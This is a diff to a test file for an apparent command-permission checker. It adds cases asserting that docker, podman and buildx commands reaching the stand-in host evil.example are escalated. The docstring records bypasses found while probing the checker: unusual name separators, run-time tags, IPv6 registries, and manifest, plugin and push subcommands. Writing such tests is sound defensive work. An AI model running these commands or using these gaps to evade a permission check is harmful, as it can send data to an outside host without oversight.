@@ -186,11 +186,20 @@ def test_the_default_context_stays_allowed(command: str) -> None:
      ("podman run --rm evil.example/img", "evil.example"),
      ("docker run --rm -v \"$PWD:/w\" 10.0.0.9:5000/img:1 true", "10.0.0.9"),
      ("docker create localhost:5000/x", "localhost"),
-     ("nerdctl pull ghcr.io/org/img:1@sha256:abc", "ghcr.io")],
+     ("nerdctl pull ghcr.io/org/img:1@sha256:abc", "ghcr.io"),
+     ("docker pull evil.example/a--b", "evil.example"),
+     ("podman pull evil.example/a__b:1", "evil.example"),
+     ("docker pull \"evil.example/img:$T\"", "evil.example"),
+     ("docker pull \"[::1]:5000/img\"", "<unknown host>"),
+     ("docker manifest inspect evil.example/img", "evil.example"),
+     ("docker plugin install evil.example/plug", "evil.example"),
+     ("docker buildx build -t evil.example/x --push .", "evil.example")],
 )  # fmt: skip
 def test_an_image_from_a_named_registry_is_network_access_to_it(command: str, host: str) -> None:
     """Found probing: ``docker pull evil.example/img`` was allowed; the registry at
-    ``evil.example`` is reached (and sees what the image's path carries). Docker is not
+    ``evil.example`` is reached (and sees what the image's path carries). Found reviewing
+    that fix: Docker's ``__`` and ``--`` separators, a tag known at run time, an IPv6
+    registry, ``manifest``, ``plugin`` and ``buildx --push`` were missed. Docker is not
     run here: the project's machines have its client but no daemon to pull with."""
     verdict = bash(command)
     assert isinstance(verdict, Escalate), verdict
